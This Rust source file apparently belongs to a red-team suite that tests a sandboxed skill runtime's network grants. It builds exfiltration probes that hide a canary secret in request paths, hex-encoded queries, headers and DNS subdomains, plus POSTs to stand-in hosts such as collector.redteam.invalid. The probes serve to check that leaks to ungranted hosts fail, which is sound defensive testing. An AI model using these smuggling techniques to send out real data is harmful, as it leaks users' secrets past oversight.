//! Data that leaves by a way that is open: to hosts that were granted, as whatever a request is made of; and to hosts that
//! were not, which has to fail. What gets through to a granted host is residual: the grant says so, and a reviewer should too.

use serde_json::{Value, json};
use soulbound_runtime::grant::host::HostPattern;

use super::Ground;
use super::network::{Open, fetch};
use crate::redteam::attack::{Aim, Attack, Class, Contact, ProbeKind};

/// Every attack that sends data out.
pub(super) fn attacks(ground: &Ground<'_>) -> Vec<Attack> {
    let target = ground.target;
    if target.probe(ProbeKind::Http).is_none() {
        return Vec::new();
    }
    // What the skill may read, if anything; its own words otherwise.
    let inside = target.given.iter().find_map(|given| ground.scratch.inside(given));
    let secret = inside.map_or_else(|| "0123456789abcdef".to_owned(), |canary| canary.text.clone());
    let mut all = Vec::new();
    for (number, grant) in target.entry.grant.hosts.iter().enumerate() {
        let Some(open) = Open::of(grant) else { continue };
        let residual = |what: &str| Aim::Residual(format!("{what} reaches {}", grant.text()));
        let changed = |key: &str, value: Value| {
            let mut request = open.request();
            if let Some(request) = request.as_object_mut() {
                request.insert(key.to_owned(), value);
            }
            request
        };
        let ways = [
            ("path", "what the skill read, in a path,", changed("path", json!(format!("/{secret}")))),
            (
                "query",
                "what the skill read, in a query,",
                changed("path", json!(format!("/?q={}", in_hex(&secret)))),
            ),
            ("header", "what the skill read, in a header,", changed("headers", json!([["x-data", secret]]))),
        ];
        for (name, what, request) in ways {
            let attack =
                fetch(Class::Exfiltration, format!("{name}@{number}"), what, vec![request], open.contact());
            all.push(attack.aim(residual(what)));
        }
        if let HostPattern::Below(suffix) = grant.pattern() {
            let host = format!("{secret}.{suffix}");
            let named = Open {
                address: std::net::SocketAddr::new(crate::redteam::stub::public(&host), open.port),
                host,
                ..open
            };
            let what = "what the skill read, as a name that is looked up,";
            let attack = fetch(
                Class::Exfiltration,
                format!("name@{number}"),
                what,
                vec![named.request()],
                named.contact(),
            );
            all.push(attack.aim(residual(what)));
        }
    }
    for (number, host) in [
        format!("{secret}.redteam.invalid"),
        format!("{}.redteam.invalid", in_hex(&secret)),
        "collector.redteam.invalid".to_owned(),
    ]
    .into_iter()
    .enumerate()
    {
        let request = json!({"method": "POST", "scheme": "https", "authority": host, "path": format!("/{secret}"), "headers": [], "body": secret});
        let what = "data is sent to a host that nobody granted";
        all.push(fetch(
            Class::Exfiltration,
            format!("elsewhere-{number}"),
            what,
            vec![request],
            Contact::default(),
        ));
    }
    all
}

/// The secret in another dress.
fn in_hex(secret: &str) -> String {
    secret.bytes().map(|byte| format!("{byte:02x}")).collect()
}
